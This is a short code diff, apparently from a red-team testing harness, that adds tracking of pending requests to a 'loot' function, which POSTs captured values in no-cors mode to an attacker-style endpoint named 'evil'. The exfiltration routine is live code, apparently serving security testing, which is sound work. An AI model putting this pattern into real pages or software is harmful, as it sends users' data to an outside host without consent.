@@ -6,6 +6,9 @@
   redteam.looted = [];
   const hear = (value) => void (redteam.heard.length < 2000 && redteam.heard.push(value));
   const { fetch } = globalThis;
+  /** How much of it is still on its way home. */
+  redteam.onWay = 0;
+  const arrived = () => void (redteam.onWay -= 1);
 
   /** Sends home what was taken. */
   redteam.loot = (value) => {
@@ -16,13 +19,14 @@
       text = String(value);
     }
     redteam.looted.push(text);
+    redteam.onWay += 1;
     fetch
       .call(globalThis, `${redteam.evil}/loot`, {
         method: "POST",
         mode: "no-cors",
         body: text.slice(0, 50_000),
       })
-      .catch(() => {});
+      .then(arrived, arrived);
   };
 
   const deep = { capture: true };
